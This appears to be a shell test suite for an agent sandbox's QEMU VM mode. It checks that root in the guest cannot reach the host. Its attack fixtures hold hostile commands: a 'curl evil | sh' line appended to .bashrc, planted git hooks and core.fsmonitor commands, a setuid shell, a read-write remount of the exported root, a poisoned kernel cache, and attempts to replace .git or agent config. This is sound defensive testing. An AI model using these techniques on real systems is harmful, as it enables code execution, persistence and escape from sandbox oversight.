#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# `agentrun sandbox --vm` (docs/vm.md): the command runs in a guest
# kernel under QEMU, inside the prepared sandbox. Eleven guest boots: as
# the user with every check of what the command sees; as root in the
# guest (--vm-guest-root: what an agent with a guest kernel exploit has)
# attacking the exported root, the setuid bit and the kernel cache; the
# protected paths attacked by the guest's root and user, with --publish;
# --overlay and its review; --net allow with --secret (rootless and
# root); the guest agent: stdin, --name/--detach with sandbox exec and
# stop (rootless and root), a terminal (tmux). Then the refusals (no
# boot), root and rootless. Under TCG a
# boot takes 30-90 s on the loaded dev host.
# Skipped where QEMU, the guest kernel or busybox-static are missing
# (tests/vm/run-in-vm --check), or AGENTRUN_SKIP_VM=1.
# shellcheck disable=SC2034 # SB_ENV is read by sb_run (sandbox-lib.sh)
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../sandbox-lib.sh"

[ "${AGENTRUN_SKIP_VM:-0}" = 1 ] && skip "AGENTRUN_SKIP_VM=1"
VM_WHY=$("$TOP_SRCDIR/tests/vm/run-in-vm" --check) || skip "${VM_WHY#run-in-vm: cannot run: }"
[ -x "$AGENTRUN" ] || skip "$AGENTRUN is not built"

# the helpers where the test user reaches them (the checkout may be private)
VMLIB=$TEST_TMP/vmlib
mkdir -p "$VMLIB"
cp "$TOP_SRCDIR/runtime/sandbox/vm/agentrun-vm" "$TOP_SRCDIR/runtime/sandbox/vm/vm-init.sh" "$VMLIB/"
chmod -R a+rX "$VMLIB"
KVER=$(printf '%s\n' /boot/vmlinuz-* | sed 's|.*/vmlinuz-||' | sort -rV | while read -r v; do
	[ -r "/lib/modules/$v/modules.dep" ] && echo "$v" && break
done)

vm_home()
{
	sb_home "$1"
	mkdir -p "$H/.ssh"
	echo "PRIVATE-KEY-MATERIAL" >"$H/.ssh/id_rsa"
	chmod 0700 "$H/.ssh"
	chmod 0600 "$H/.ssh/id_rsa"
	echo "# the user's own" >"$H/.bashrc"
	sb_home_own
	# one kernel cache per user for the file (the first boot fills it;
	# root's sandbox cannot reach into the test user's 0700 directory)
	VMCACHE=$TEST_TMP/vmcache-$1
	mkdir -p "$VMCACHE"
	[ "$1" = root ] || chown "$TEST_UID:$TEST_GID" "$VMCACHE"
	SB_ENV=(AGENTRUN_VM_DIR="$VMLIB" XDG_CACHE_HOME="$VMCACHE")
}

# ---- one boot as the user: everything the command sees -------------------
t_vm_user()
{
	vm_home user
	local host_kernel marker=agentrun-vm-host-marker-$RANDOM$RANDOM t0 t1
	host_kernel=$(uname -r)
	# a host process the guest must not see
	(exec -a "$marker" sleep 120) &
	defer kill $!
	# a --rw directory outside the workspace: exported read-write too
	mkdir -p "$H/extra"
	printf 'RWDIR=%s\n' "$H/extra" >"$WS/guest.sh"
	cat >>"$WS/guest.sh" <<'EOS'
echo "made through --rw" >"$RWDIR/made-in-guest" && echo "rw-write-ok"
echo "kernel=$(uname -r)"
echo "version=$(cut -d' ' -f3 /proc/version)"
echo "id=$(id -u):$(id -g)"
echo "cwd=$(pwd)"
echo "made in the guest" >made-in-guest
echo "secret=$(cat "$HOME/.ssh/id_rsa" 2>&1)"
echo "procs=$(for f in /proc/[0-9]*/cmdline; do tr '\0' ' ' <"$f"; echo; done 2>/dev/null | tr '\n' ' ')"
echo "nics=$(ls /sys/class/net | tr '\n' ' ')"
echo "to-stderr" >&2
exit 7
EOS
	sb_home_own
	t0=$(date +%s%N)
	assert_status 7 sb_run --vm --rw "$H/extra" -- sh ./guest.sh
	t1=$(date +%s%N)
	echo "# the boot and the command: $(((t1 - t0) / 1000000)) ms"
	assert_contains "$OUT" "kernel=$KVER" "uname -r in the guest is the guest kernel's"
	[ "$KVER" != "$host_kernel" ] || skip "the host runs the guest kernel $KVER: uname -r cannot tell"
	assert_not_contains "$OUT" "kernel=$host_kernel"
	assert_contains "$OUT" "version=$KVER" "/proc/version shows the guest kernel"
	assert_contains "$OUT" "id=$TEST_UID:$TEST_GID" "the command runs as the user in the guest"
	assert_contains "$OUT" "cwd=$WS"
	assert_file_owner "$WS/made-in-guest" "$TEST_UID:$TEST_GID"
	assert_eq "$(cat "$WS/made-in-guest")" "made in the guest"
	assert_contains "$OUT" "rw-write-ok" "a write to a --rw directory from the guest"
	assert_file_owner "$H/extra/made-in-guest" "$TEST_UID:$TEST_GID"
	assert_eq "$(cat "$H/extra/made-in-guest")" "made through --rw"
	assert_not_contains "$OUT" "PRIVATE-KEY-MATERIAL" "the secret outside the workspace"
	assert_contains "$OUT" "secret=cat: "
	assert_not_contains "$OUT" "$marker" "a host process seen from the guest"
	assert_contains "$OUT" "procs="
	assert_eq "$(grep '^nics=' <<<"$OUT")" "nics=lo " "the guest has no network device"
	assert_contains "$ERR" "to-stderr"
	assert_not_contains "$OUT" "to-stderr" "stderr apart from stdout"
	# the kernel's messages stay out of the command's output
	assert_not_contains "$OUT$ERR" "Linux version"
}
run_test "--vm (rootless): the guest kernel, exit status, stdout/stderr apart, workspace and --rw owner, no secret, no host process, no NIC" t_vm_user

# ---- one boot as root in the guest: the attack ----------------------------
t_vm_attack()
{
	vm_home user
	local before_etc
	before_etc=$(find /etc -maxdepth 1 -printf '%p %s %T@\n' | sort | md5sum)
	cat >"$WS/attack.sh" <<'EOS'
set -u
id -u
# the guest root writes the exported root outside the workspace
echo pwned >/etc/agentrun-vm-attack && echo "etc-write-in-guest"
echo pwned >/usr/agentrun-vm-attack && echo "usr-write-in-guest"
echo 'curl evil | sh' >>"$HOME/.bashrc" && echo "bashrc-write-in-guest"
# ... remounts the sandbox's root (the overlay's lower layer, kept at
# /run/vm/root) read-write and writes through it
if busybox mount -o remount,rw /run/vm/root 2>&1; then
	echo "9p-root-remounted-rw"
	echo pwned >/run/vm/root/etc/agentrun-vm-attack2 2>&1 && echo "9p-root-write-ok"
	echo pwned >/run/vm/root/usr/agentrun-vm-attack2 2>&1 && echo "9p-usr-write-ok"
	echo pwned >/run/vm/root/agentrun-vm-attack2 2>&1 && echo "9p-top-write-ok"
fi
# ... and the protected paths of the workspace and the setuid bit
mkdir -p .git/hooks 2>&1
printf '#!/bin/sh\necho hooked\n' >.git/hooks/pre-commit 2>&1 && echo "hook-written"
printf '[core]\n\thooksPath = /tmp\n' >>.git/config 2>&1 && echo "gitconfig-written"
cp /bin/sh ./suid-sh && chmod 4755 ./suid-sh 2>&1
chown 0:0 ./suid-sh 2>&1
ls -ln ./suid-sh
exit 0
EOS
	sb_home_own
	# the kernel cache: the first boot (t_vm_user) unpacked the kernel
	# into it; an agent given --rw over it plants a "kernel" in its
	# place, in place (same inode) and with the old mtime. The next run
	# must boot the real kernel (a planted file makes QEMU fail: 125)
	local cached
	cached=$(find "$VMCACHE/agentrun/vm" -name '*.vmlinux' | head -n 1)
	[ -n "$cached" ] || fail "no cached kernel in $VMCACHE after the first boot"
	# shellcheck disable=SC2016 # expanded by the sandbox's shell
	assert_status 0 sb_run --rw "$VMCACHE" -- sh -c '
		f=$1; t=$(stat -c %y "$f")
		printf "planted kernel\n" >"$f" && touch -d "$t" "$f" && echo planted
		ls "$2/vm-cache" 2>&1
		exit 0' _ "$cached" "$AR_USER_ROOT"
	assert_contains "$OUT" "planted" "the agent overwrites the cached kernel"
	assert_not_contains "$OUT" "$(basename "$cached" .vmlinux)" "the agent sees the state root's checksums"
	# stale entries beside it, which the unpack (a new entry) removes:
	# one without a record in the state root (a reboot emptied it), one
	# whose record was last used 8 days ago, an unpack's leftover of 2
	# hours ago; and what stays: an entry used now, a fresh leftover (an
	# unpack under way), a symbolic link named like an entry (to a file
	# of the user's), a file not named by agentrun
	local cdir=$VMCACHE/agentrun/vm rdir=$AR_USER_ROOT/vm-cache k
	local stale1=5.10.0-1-amd64-803-1-2-1700000000.000000000
	local stale2=5.10.0-2-amd64-803-1-2-1700000000.000000000
	local recent=5.10.0-3-amd64-803-1-2-1700000000.000000000
	local link=5.10.0-4-amd64-803-1-2-1700000000.000000000
	for k in "$stale1" "$stale2" "$recent"; do echo old >"$cdir/$k.vmlinux"; done
	echo record >"$rdir/$stale2"
	echo record >"$rdir/$recent"
	touch -d '8 days ago' "$rdir/$stale2"
	echo partial >"$cdir/.$stale1.4242"
	touch -d '2 hours ago' "$cdir/.$stale1.4242"
	echo partial >"$cdir/.$recent.4243"
	echo "the user's own" >"$TEST_TMP/victim"
	ln -s "$TEST_TMP/victim" "$cdir/$link.vmlinux"
	echo notes >"$cdir/notes.txt"
	chown -h "$TEST_UID:$TEST_GID" "$cdir"/* "$cdir"/.5* "$rdir"/* "$TEST_TMP/victim"
	assert_status 0 sb_run --vm --vm-guest-root -- sh ./attack.sh
	[ ! -e "$cdir/$stale1.vmlinux" ] || fail "an entry without a record is left"
	[ ! -e "$cdir/$stale2.vmlinux" ] && [ ! -e "$rdir/$stale2" ] || fail "an entry unused for 8 days is left"
	[ ! -e "$cdir/.$stale1.4242" ] || fail "an old unpack's leftover is left"
	[ -e "$cdir/$recent.vmlinux" ] && [ -e "$rdir/$recent" ] || fail "an entry in use was removed"
	[ -e "$cdir/.$recent.4243" ] || fail "a fresh unpack's file was removed"
	[ -L "$cdir/$link.vmlinux" ] || fail "the symbolic link was removed"
	assert_eq "$(cat "$TEST_TMP/victim")" "the user's own" "the link's target"
	[ -e "$cdir/notes.txt" ] || fail "a file agentrun did not name was removed"
	# agentrun saw the change (ctime) and unpacked again before the run
	assert_not_contains "$ERR" "does not match its checksum"
	assert_eq "$(head -c 4 "$cached" | od -An -tx1 | tr -d ' ')" 7f454c46 "the cache holds a kernel again (unpacked anew)"
	assert_contains "$OUT" "etc-write-in-guest" "the guest root writes its /etc (the guest's overlay)"
	# nothing of it on the host
	[ ! -e /etc/agentrun-vm-attack ] || fail "/etc/agentrun-vm-attack on the host"
	[ ! -e /usr/agentrun-vm-attack ] || fail "/usr/agentrun-vm-attack on the host"
	[ ! -e /etc/agentrun-vm-attack2 ] || fail "/etc/agentrun-vm-attack2 on the host"
	[ ! -e /usr/agentrun-vm-attack2 ] || fail "/usr/agentrun-vm-attack2 on the host"
	assert_contains "$OUT" "9p-root-remounted-rw" "the guest root remounts the sandbox's root read-write"
	assert_not_contains "$OUT" "9p-root-write-ok" "a write through the 9p root mounted rw"
	assert_not_contains "$OUT" "9p-usr-write-ok"
	assert_not_contains "$OUT" "9p-top-write-ok"
	assert_not_contains "$OUT" "hook-written" "a git hook written"
	assert_eq "$(cat "$H/.bashrc")" "# the user's own" "the home's rc file"
	assert_eq "$(find /etc -maxdepth 1 -printf '%p %s %T@\n' | sort | md5sum)" "$before_etc" "/etc of the host"
	[ ! -e "$WS/.git/hooks/pre-commit" ] || fail "a git hook reached the host: $(cat "$WS/.git/hooks/pre-commit")"
	# (the end-of-run check disarms what reached .git/config, as without --vm)
	! grep -Eq '^[[:space:]]*hooksPath' "$WS/.git/config" 2>/dev/null ||
		fail "an armed hooksPath in the workspace's .git/config: $(cat "$WS/.git/config")"
	echo "$OUT"
	if [ -e "$WS/suid-sh" ]; then
		assert_file_owner "$WS/suid-sh" "$TEST_UID:$TEST_GID"
		[ ! -u "$WS/suid-sh" ] || fail "a setuid file in the workspace: $(ls -ln "$WS/suid-sh")"
	fi
}
run_test "--vm --vm-guest-root (rootless): root in the guest writes /etc, /usr, the home, remounts the root rw, plants a hook and a setuid file: nothing reaches the host" t_vm_attack

# ---- one boot with --net allow, as root in the guest: the egress policy --
# A network namespace this test makes stands for the host: 10.200.0.2 on
# its lo (the host's private network) serves :8088 (allowed) and :8089
# (not), its 127.0.0.1:8090 is a host loopback service. The guest's root
# goes through the proxy (HTTP_PROXY, as without --vm), then around it
# (the transparent capture decides), then at the host's loopback: at the
# slirp gateway (the sandbox's loopback, not the host's), at other ports
# of the gateway and of the slirp DNS address.
t_vm_net()
{
	vm_home "$1"
	require_cmd unshare ip curl setpriv
	[ -x "$PY" ] || skip "needs $PY"
	tls_setup
	: >"$TEST_TMP/auth.log"
	local d a log runas='' root=$AR_ROOT
	if [ "$1" = user ]; then
		runas="setpriv --reuid=$TEST_UID --regid=$TEST_GID --init-groups"
		root=$AR_USER_ROOT
	fi
	for d in 8088:allowed-service 8089:private-network-service 8090:host-loopback-service; do
		mkdir -p "$TEST_TMP/www${d%%:*}"
		echo "${d#*:}" >"$TEST_TMP/www${d%%:*}/index.html"
	done
	chmod -R a+rX "$TEST_TMP"/www*
	cat >"$WS/guest.sh" <<'EOS'
echo "nics=$(ls /sys/class/net | tr '\n' ' ')"
echo "proxy=$HTTP_PROXY"
echo "via-proxy-allowed=$(curl -sS -m 60 http://10.200.0.2:8088/ 2>&1)"
echo "via-proxy-private=$(curl -sS -m 60 http://10.200.0.2:8089/ 2>&1)"
echo "direct-allowed=$(curl -sS -m 60 --noproxy '*' http://10.200.0.2:8088/ 2>&1)"
r=$(curl -sS -m 60 --noproxy '*' http://10.200.0.2:8089/ 2>&1)
echo "direct-private=$r rc=$?"
for a in 10.0.2.2:8090 127.0.0.1:8090 10.0.2.2:22 10.0.2.3:8090; do
	r=$(curl -sS -m 60 --noproxy '*' "http://$a/" 2>&1)
	echo "loopback-$a=$r rc=$?"
done
# names: the sandbox's DNS (answered from the policy) through slirp's
r=$(getent hosts allowed.test)
echo "dns-allowed=$r rc=$?"
r=$(getent hosts denied.test)
echo "dns-denied=$r rc=$?"
# --secret: the placeholder in the guest, the real value put in by the
# proxy on the way to the listed host (the guest trusts the proxy's CA:
# SSL_CERT_FILE names the sandbox's /tmp/agentrun-ca-*, which the guest
# sees); nowhere in the guest's environment or files
echo "token=$TOKEN"
echo "cadir=${SSL_CERT_FILE%/*}"
echo "secret-call=$(curl -sS -m 60 --noproxy '' -H "Authorization: Bearer $TOKEN" https://localhost:8443/ 2>&1)"
echo "secret-hits=$({ cat /proc/[0-9]*/environ; grep -rs "$1" /tmp /etc "$HOME" .; } 2>/dev/null | tr '\0' '\n' | grep -c "$1")"
exit 0
EOS
	sb_home_own
	cat >"$TEST_TMP/netns.sh" <<EOF
set -u
ip link set lo up
ip addr add 10.200.0.2/32 dev lo
(cd "$TEST_TMP/www8088" && exec timeout 600 $PY -m http.server 8088 --bind 10.200.0.2) >/dev/null 2>&1 &
(cd "$TEST_TMP/www8089" && exec timeout 600 $PY -m http.server 8089 --bind 10.200.0.2) >/dev/null 2>&1 &
(cd "$TEST_TMP/www8090" && exec timeout 600 $PY -m http.server 8090 --bind 127.0.0.1) >/dev/null 2>&1 &
timeout 600 $PY $AR_TEST_HELPERS/http_server.py --port 8443 --tls $TEST_TMP/tls --log $TEST_TMP/auth.log --only-with Authorization >/dev/null 2>&1 &
for i in \$(seq 100); do
	curl -s -o /dev/null http://10.200.0.2:8088/ && curl -s -o /dev/null http://10.200.0.2:8089/ &&
		curl -s -o /dev/null http://127.0.0.1:8090/ &&
		curl -s -o /dev/null --cacert $TEST_TMP/tls/ca.pem https://localhost:8443/ && break
	sleep 0.1
done
cd "$WS"
$runas env HOME=$H AGENTRUN_VM_DIR=$VMLIB XDG_CACHE_HOME=$VMCACHE \\
	TOKEN=$SECRET SSL_CERT_FILE=$TEST_TMP/tls/ca.pem \\
	$AGENTRUN --root $root sandbox --no-tty --vm --vm-guest-root \\
	--net allow=10.200.0.2:8088,allowed.test,localhost:8443 --secret TOKEN=localhost:8443 \\
	-- sh ./guest.sh $SECRET >$TEST_TMP/net.out 2>$TEST_TMP/net.err
echo \$? >$TEST_TMP/net.rc
kill %1 %2 %3 %4
EOF
	assert_status 0 unshare --mount --net bash "$TEST_TMP/netns.sh"
	OUT=$(cat "$TEST_TMP/net.out") ERR=$(cat "$TEST_TMP/net.err")
	echo "$OUT"
	assert_eq "$(cat "$TEST_TMP/net.rc")" 0 "the guest ran (stderr: $ERR)"
	assert_match "$OUT" "nics=[a-z0-9]+ lo " "the guest has one NIC beside lo"
	assert_contains "$OUT" "proxy=http://10.0.2.2:3128" "HTTP_PROXY is the sandbox's proxy, at the gateway"
	assert_contains "$OUT" "via-proxy-allowed=allowed-service" "the allowed host through the proxy"
	assert_contains "$OUT" "via-proxy-private=agentrun: blocked 10.200.0.2:8089 $DASH not in the allowlist" "the proxy's refusal and its reason"
	assert_contains "$OUT" "direct-allowed=allowed-service" "the allowed host around the proxy (the capture)"
	assert_not_contains "$OUT" "private-network-service" "the host's private network reached"
	assert_not_contains "$OUT" "host-loopback-service" "a host loopback service reached"
	assert_match "$OUT" "direct-private=[^$NL]* rc=(7|52|55|56)"
	for a in 10.0.2.2:8090 127.0.0.1:8090 10.0.2.2:22 10.0.2.3:8090; do
		assert_match "$OUT" "loopback-$a=[^$NL]* rc=(7|28|52|56)" "$a refused"
	done
	assert_match "$OUT" "dns-allowed=198\\.1[89]\\.[0-9.]+ +allowed\\.test rc=0" "an allowed name: an address of the sandbox's pool"
	assert_contains "$OUT" "dns-denied= rc=2" "a denied name: NXDOMAIN"
	log=$H/.local/state/agentrun/egress.log
	assert_contains "$(cat "$log")" "agentrun: blocked 10.200.0.2:8089 $DASH not in the allowlist"
	assert_contains "$ERR" "connections blocked: 10.200.0.2:8089"
	# --secret
	assert_match "$OUT" "token=agentrun-secret-[0-9a-f]{32}" "the guest has the placeholder"
	assert_match "$OUT" "cadir=/tmp/agentrun-ca-[A-Za-z0-9]{6}"
	assert_contains "$OUT" "secret-call=ok-from-tls" "the guest's HTTPS call through the proxy's interception"
	assert_contains "$OUT" "secret-hits=0" "the value nowhere in the guest"
	assert_eq "$(cat "$TEST_TMP/auth.log")" "auth=Bearer $SECRET" "the listed host got the real value"
}
DASH=$'\xe2\x80\x94'
SECRET=real-secret-value-5d81e2
NL=$'\n'
run_test "--vm --net allow --secret (rootless, root in the guest): the allowed host through the proxy and the capture, refusals with the policy's reason, no host loopback service, no private network, the secret's value put in by the proxy only" t_vm_net user
run_test "--vm --net allow --secret (root, root in the guest): the same" t_vm_net root

# ---- one boot, root and user in the guest: the protected paths ----------
# The attacks of test_protect.sh (hooks, core.fsmonitor and the rest of
# .git/config, config.worktree, info/attributes, .vscode, .mcp.json,
# .claude, .idea; renaming the directories that hold them; replacing .git
# with one of the agent's own), made by the guest's root, then by the
# guest's user (setpriv, same boot), then by the guest's root through a
# second 9p mount of the workspace's export if the guest's kernel gives
# one (no view of the guest's own mounts between it and QEMU). In the
# same boot, --publish without --net: the host reaches a server in the
# guest, the guest reaches nothing out. The host's git after the run runs nothing
# of it, and the protected files are as they were.
vm_repo()
{
	require_cmd git
	vm_home "$1"
	protect_repo .claude
}

t_vm_protect()
{
	vm_repo user
	cat >"$WS/.attack.sh" <<'EOS'
m=$1 who=$2
for g in .git sub/.git .git/modules/mod; do
	printf "#!/bin/sh\necho hook $g >>$m\n" >$g/hooks/pre-commit 2>/dev/null && chmod +x $g/hooks/pre-commit && echo "$who:hook-written:$g"
	git --git-dir=$g config core.fsmonitor "echo fsmonitor $g >>$m; false" 2>/dev/null && echo "$who:fsmonitor-set:$g"
	git --git-dir=$g config core.hooksPath /tmp 2>/dev/null
	printf "[core]\n\tfsmonitor = echo appended >>$m; false\n" >>$g/config 2>/dev/null && echo "$who:config-appended:$g"
	printf "[core]\n\tfsmonitor = echo worktree >>$m\n" >$g/config.worktree 2>/dev/null && echo "$who:config-worktree:$g"
	mkdir -p $g/info 2>/dev/null; echo "* filter=x" >$g/info/attributes 2>/dev/null && echo "$who:attributes:$g"
done
mkdir -p .vscode 2>/dev/null; echo '{"tasks":1}' >.vscode/tasks.json 2>/dev/null && echo "$who:vscode-tasks"
echo x >>.vscode/settings.json 2>/dev/null && echo "$who:vscode-settings"
echo '{"mcpServers":{}}' >.mcp.json 2>/dev/null && echo "$who:mcp"
echo '{"hooks":1}' >.claude/settings.json 2>/dev/null && echo "$who:claude-settings"
mkdir .idea 2>/dev/null; echo x >.idea/workspace.xml 2>/dev/null && echo "$who:idea"
# rename what holds protected paths, put one's own in its place
mv sub sub-moved 2>/dev/null && echo "$who:sub-moved"
mv .claude .claude-old 2>/dev/null && echo "$who:claude-moved"
mv .git/modules .git/modules-old 2>/dev/null && echo "$who:modules-moved"
mv .git .git-old 2>/dev/null && echo "$who:git-moved"
true
EOS
	cat >"$WS/.guest.sh" <<'EOS'
m=$1 uid=$2 gid=$3
echo "id=$(id -u)"
# --publish without --net: a server in the guest that the host reaches
# through agentrun's relay and QEMU's forward; the guest's own
# connections go nowhere (the NIC is restricted)
mkdir -p /tmp/pub && echo published-from-guest >/tmp/pub/index.html
(cd /tmp/pub && exec python3 -m http.server 8000 --bind 0.0.0.0) >/dev/null 2>&1 &
srv=$!
for a in 10.0.2.2:22 10.0.2.2:8000 10.0.2.3:53 192.0.2.1:80; do
	curl -sS -m 20 --noproxy '*' "http://$a/" >/dev/null 2>&1
	echo "out-of-guest-$a=rc=$?"
done
n=0
while [ ! -e .published ] && [ $n -lt 300 ]; do sleep 1; n=$((n + 1)); done
[ -e .published ] && echo "host-fetched"
kill $srv
sh ./.attack.sh "$m" root
setpriv --reuid="$uid" --regid="$gid" --clear-groups sh ./.attack.sh "$m" user
# the guest's root mounts the workspace's export again, away from the
# guest's own view, and writes through that (refused today: one mount
# per virtio 9p channel)
mkdir -p /run/again
if busybox mount -t 9p -o trans=virtio,version=9p2000.L share /run/again 2>&1; then
	echo "share-mounted-again"
	(cd /run/again && sh "$PWD/.attack.sh" "$m" again)
fi
# last: replace .git by one's own (removing what it can)
rm -rf .git 2>/dev/null; [ -e .git/config ] || echo "root:git-removed"
git init -q . 2>/dev/null && git config core.fsmonitor "echo fsmonitor-own >>$m; false" 2>/dev/null && echo "root:own-git"
exit 0
EOS
	sb_home_own
	local hp=$((20000 + RANDOM % 20000)) pid got='' rc=0 a
	sb_run --vm --vm-guest-root --publish "$hp:8000" -- sh ./.guest.sh "$MARK" "$TEST_UID" "$TEST_GID" \
		>"$TEST_TMP/prot.out" 2>"$TEST_TMP/prot.err" &
	pid=$!
	for _ in $(seq 300); do
		got=$(curl -sS -m 5 --noproxy '*' "http://127.0.0.1:$hp/" 2>/dev/null) &&
			[ "$got" = published-from-guest ] && break
		got=''
		kill -0 "$pid" 2>/dev/null || break
		sleep 1
	done
	host touch "$WS/.published"
	wait "$pid" || rc=$?
	OUT=$(cat "$TEST_TMP/prot.out") ERR=$(cat "$TEST_TMP/prot.err")
	echo "$OUT"
	assert_eq "$rc" 0 "the run's exit status (stderr: $ERR)"
	assert_eq "$got" published-from-guest "the host reaches the guest's server through --publish $hp:8000"
	assert_contains "$OUT" "host-fetched"
	for a in 10.0.2.2:22 10.0.2.2:8000 10.0.2.3:53 192.0.2.1:80; do
		assert_match "$OUT" "out-of-guest-$a=rc=(7|28|52|56)" "the guest reaches $a with --publish alone"
	done
	assert_contains "$OUT" "id=0" "the attack runs as the guest's root"
	# (a virtio 9p channel takes one mount: EBUSY; were it to succeed,
	# the attack through it must fail like the others)
	# nothing of it succeeded, for any of the three
	assert_not_contains "$OUT" ":hook-written" "a hook written"
	assert_not_contains "$OUT" ":fsmonitor-set" "core.fsmonitor set"
	assert_not_contains "$OUT" ":config-appended" "the git config appended to"
	assert_not_contains "$OUT" ":config-worktree" "config.worktree written"
	assert_not_contains "$OUT" ":attributes" "info/attributes written"
	assert_not_contains "$OUT" ":vscode" ".vscode written"
	assert_not_contains "$OUT" ":mcp" ".mcp.json written"
	assert_not_contains "$OUT" ":claude" ".claude written or moved"
	assert_not_contains "$OUT" ":idea" ".idea written"
	assert_not_contains "$OUT" "-moved" "a directory holding protected paths renamed"
	assert_not_contains "$OUT" "root:git-removed" ".git removed"
	# the host: as it was, and its git runs nothing
	[ ! -e "$WS/.git/hooks/pre-commit" ] || fail "pre-commit hook written"
	[ ! -e "$WS/sub/.git/hooks/pre-commit" ] || fail "nested repo hook written"
	[ ! -e "$WS/.git/modules/mod/hooks/pre-commit" ] || fail "submodule hook written"
	[ ! -e "$WS/.git/config.worktree" ] || fail "config.worktree created"
	[ ! -e "$WS/.git/info/attributes" ] || fail "info/attributes created"
	[ -d "$WS/.git" ] && [ -d "$WS/sub/.git" ] && [ ! -e "$WS/.git-old" ] && [ ! -e "$WS/sub-moved" ] ||
		fail ".git replaced or renamed: $(ls -a "$WS")"
	assert_eq "$(cat "$WS/mod/.git")" "gitdir: ../.git/modules/mod"
	assert_not_contains "$(cat "$WS/.git/config" "$WS/sub/.git/config" "$WS/.git/modules/mod/config")" "fsmonitor"
	assert_not_contains "$(cat "$WS/.git/config")" "hooksPath"
	[ ! -e "$WS/.vscode/tasks.json" ] || fail ".vscode/tasks.json written"
	assert_eq "$(cat "$WS/.vscode/settings.json")" "{}"
	assert_eq "$(cat "$WS/.claude/settings.json")" "{}"
	[ ! -e "$WS/.mcp.json" ] || fail ".mcp.json created (or its placeholder left)"
	[ ! -e "$WS/.idea" ] || fail ".idea created (or its placeholder left)"
	host_git_runs_nothing
}
run_test "--vm (rootless): the guest's root, its user and a second mount of the export attack the protected paths (hooks, git config, editor and agent config, renames, a replaced .git): the host's git runs nothing; --publish reaches the guest's server" t_vm_protect

# ---- one boot with --overlay: the changes kept apart, then reviewed -----
# QEMU exports the workspace as the sandbox sees it, which with --overlay
# is the overlayfs (the real workspace its lower layer): the guest's
# writes land in the upper layer; `changes`, `commit` (protected changes
# held back) work on it after the run as without --vm.
t_vm_overlay()
{
	vm_repo user
	host sh -c 'cd "$1" && echo g >gone.txt && git add gone.txt && git commit -qm gone' _ "$WS"
	cat >"$WS/.guest.sh" <<'EOS'
echo changed >>a.txt && echo "a-changed"
echo new >new.txt
rm gone.txt && echo "gone-removed"
printf '#!/bin/sh\necho hook >>%s\n' "$1" >.git/hooks/pre-commit 2>/dev/null && echo "hook-written"
printf '[core]\n\tfsmonitor = echo fsmonitor >>%s; false\n' "$1" >>.git/config 2>/dev/null && echo "config-written"
echo '{"mcpServers":{}}' >.mcp.json && echo "mcp-in-upper"
git add new.txt && git commit -qm agent && echo "committed-inside"
exit 0
EOS
	sb_home_own
	local before name
	before=$(cd "$WS" && find . -path ./.git -prune -o -type f -print0 | sort -z | xargs -0 md5sum)
	sb_run --vm --overlay -- sh ./.guest.sh "$MARK" >"$TEST_TMP/ov.out" 2>"$TEST_TMP/ov.err" || {
		! grep -q "doctor check \`overlay\`" "$TEST_TMP/ov.err" ||
			skip "--overlay is not available here: $(tail -n 1 "$TEST_TMP/ov.err")"
		fail "the --vm --overlay run failed: $(cat "$TEST_TMP/ov.err")"
	}
	OUT=$(cat "$TEST_TMP/ov.out") ERR=$(cat "$TEST_TMP/ov.err")
	echo "$OUT"
	echo "$ERR"
	assert_contains "$OUT" "a-changed" "the guest writes the workspace"
	assert_contains "$OUT" "gone-removed"
	assert_contains "$OUT" "committed-inside" "git commit in the guest, in the overlay"
	assert_not_contains "$OUT" "hook-written" "a hook written (read-only under --overlay too)"
	assert_not_contains "$OUT" "config-written" "the git config written"
	assert_contains "$OUT" "mcp-in-upper" ".mcp.json (missing: no placeholder under --overlay) lands in the upper layer"
	# the workspace is untouched until commit
	assert_eq "$(cd "$WS" && find . -path ./.git -prune -o -type f -print0 | sort -z | xargs -0 md5sum)" "$before" "the workspace before commit"
	name=$(sed -n 's/.*sandbox `\([^`]*\)`: the workspace is untouched.*/\1/p' <<<"$ERR")
	[ -n "$name" ] || fail "no overlay name in: $ERR"
	assert_status 0 sb_as_mode changes "$name"
	assert_match "$OUT" "(^|$NL)M  a\\.txt($NL|$)" "changes: a.txt modified"
	assert_match "$OUT" "(^|$NL)A  new\\.txt($NL|$)" "changes: new.txt added"
	assert_match "$OUT" "(^|$NL)D  gone\\.txt($NL|$)" "changes: gone.txt deleted"
	assert_match "$OUT" "(^|$NL)A! \\.mcp\\.json" "changes: .mcp.json protected"
	assert_status 0 sb_as_mode commit "$name"
	assert_contains "$ERR" "held back"
	assert_eq "$(cat "$WS/a.txt")" "a${NL}changed"
	assert_eq "$(cat "$WS/new.txt")" "new"
	assert_file_owner "$WS/new.txt" "$TEST_UID:$TEST_GID"
	[ ! -e "$WS/gone.txt" ] || fail "commit kept gone.txt"
	[ ! -e "$WS/.mcp.json" ] || fail "commit applied .mcp.json"
	[ ! -e "$WS/.git/hooks/pre-commit" ] || fail "a hook reached the workspace"
	assert_not_contains "$(cat "$WS/.git/config")" "fsmonitor"
	host_git_runs_nothing
}
run_test "--vm --overlay (rootless): the guest's changes stay in the overlay (hooks and git config read-only), changes lists them, commit applies them as the user and holds .mcp.json back" t_vm_overlay

# ---- the guest agent: stdin, --name/--detach, sandbox exec, stop ----------
t_vm_stdio()
{
	vm_home user
	head -c 1000000 /dev/urandom >"$WS/in.bin"
	sb_home_own
	local want rc=0
	want=$(sha256sum <"$WS/in.bin")
	# stdin piped into the guest, to its end; the output back whole
	sb_run --vm -- sh -c 'sha256sum; echo "sum-done"; exit 6' \
		<"$WS/in.bin" >"$TEST_TMP/stdio.out" 2>"$TEST_TMP/stdio.err" || rc=$?
	assert_eq "$rc" 6 "exit status (stderr: $(tail -n 5 "$TEST_TMP/stdio.err"))"
	assert_eq "$(head -n 1 "$TEST_TMP/stdio.out")" "$want" "1 MB of stdin reached the guest's command whole"
	assert_contains "$(cat "$TEST_TMP/stdio.out")" "sum-done"
	rc=0
	sb_run --vm -- cat "$WS/in.bin" </dev/null >"$TEST_TMP/cat.out" 2>/dev/null || rc=$?
	assert_eq "$rc" 0
	cmp "$TEST_TMP/cat.out" "$WS/in.bin" || fail "1 MB of the guest's stdout differs"
}
run_test "--vm (rootless): stdin reaches the guest's command to its end, 1 MB each way whole (the guest agent)" t_vm_stdio

t_vm_session()
{
	vm_home "$1"
	local name=vm-sess-$1-$RANDOM rc=0 EXPECT_ID=0:0
	[ "$1" = root ] || EXPECT_ID=$TEST_UID:$TEST_GID
